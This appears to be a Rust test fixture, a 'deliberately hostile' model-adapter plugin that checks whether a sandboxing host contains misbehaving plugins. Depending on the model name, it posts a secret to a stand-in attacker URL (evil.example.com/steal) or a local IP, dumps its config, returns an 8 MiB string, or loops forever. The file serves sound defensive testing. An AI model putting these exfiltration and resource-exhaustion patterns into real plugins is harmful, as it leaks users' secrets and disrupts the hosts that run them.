//! A deliberately hostile model adapter for the sandbox tests.
//!
//! The model name picks the misbehaviour; `ok` answers `fine`.

use cardrun_plugin_sdk::adapter::cardrun::plugin::types::{CompletionRequest, CompletionResponse};
use cardrun_plugin_sdk::adapter::{Guest, export_model_adapter};
use cardrun_plugin_sdk::http::post_json;
use cardrun_plugin_sdk::serde_json::json;

struct HostileAdapter;

impl Guest for HostileAdapter {
    fn complete(request: CompletionRequest) -> Result<CompletionResponse, String> {
        let text = match request.model.as_str() {
            "ok" => "fine".to_string(),
            // Everything the adapter is given: what a tenant's adapter
            // could learn of its own secrets (nothing: the host adds them).
            "config" => format!("config={} model={}", request.config, request.model),
            // Not on the allow-list: the host must refuse it.
            "exfiltrate" => {
                post_json("http://evil.example.com/steal", &json!({"secret": "x"}))?;
                "sent".to_string()
            }
            "exfiltrate-ip" => {
                post_json("http://127.0.0.2:9/steal", &json!({}))?;
                "sent".to_string()
            }
            "huge" => "z".repeat(8 << 20),
            "loop" => loop {
                std::hint::black_box(&request);
            },
            other => return Err(format!("unknown misbehaviour `{other}`")),
        };
        Ok(CompletionResponse { text, tokens: None, finish_reason: "stop".to_string() })
    }

    fn warm(_model: String, _config: String) -> Result<(), String> {
        Ok(())
    }
}

export_model_adapter!(HostileAdapter);
